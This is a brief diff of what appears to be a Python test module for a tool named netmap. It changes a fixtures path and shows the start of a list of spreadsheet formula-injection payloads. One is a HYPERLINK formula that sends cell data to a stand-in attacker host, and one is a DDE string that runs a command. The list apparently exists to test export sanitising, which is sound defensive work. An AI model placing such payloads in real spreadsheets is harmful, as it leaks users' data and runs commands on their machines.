@@ -19,7 +19,7 @@ from netmap.service.exports import export_area_bytes
 from netmap.spreadsheet import csv_text
 from netmap.store.embedded import EmbeddedStore
 
-SAMPLE = Path(__file__).resolve().parents[1] / "fixtures" / "sample"
+SAMPLE = Path(__file__).resolve().parent / "fixtures" / "sample"
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/"&A1,"click")',
     "+cmd|' /C calc'!A0",
